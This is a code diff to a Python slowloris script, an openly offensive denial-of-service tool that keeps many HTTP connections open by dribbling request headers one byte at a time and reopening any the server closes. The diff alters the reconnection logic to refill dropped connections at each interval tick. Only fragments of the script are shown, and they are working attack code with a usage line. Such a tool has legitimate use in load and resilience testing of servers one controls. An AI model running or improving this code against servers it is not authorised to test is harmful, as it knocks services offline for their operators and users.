@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """Slowloris against an HTTP endpoint: keeps N connections open, each sending the header of a
 request one byte at a time (a byte per connection every INTERVAL seconds) and never finishing it;
-a connection the server closes is opened again at once. Runs for SECONDS, then prints how many
-connections it opened and how many the server closed.
+a connection the server closes is opened again at the next tick, as slowloris tools do. Runs
+for SECONDS, then prints how many connections it opened and how many the server closed.
 
     slowloris.py HOST PORT N SECONDS [INTERVAL]
 """
@@ -50,16 +50,16 @@ while time.time() < end:
             data = key.fileobj.recv(4096)
         except OSError:
             data = b""
-        if not data:  # closed by the server: come back at once
+        if not data:  # closed by the server: come back at the next tick
             drop(key.fileobj)
-            open_one()
     if time.time() >= next_dribble:
         next_dribble += interval
+        for _ in range(n - len(sent)):
+            open_one()
         for s in list(sent):
             try:
                 s.send(REQUEST[sent[s]:sent[s] + 1])
                 sent[s] += 1
             except OSError:
                 drop(s)
-                open_one()
 print(f"opened {opened} closed {closed}")
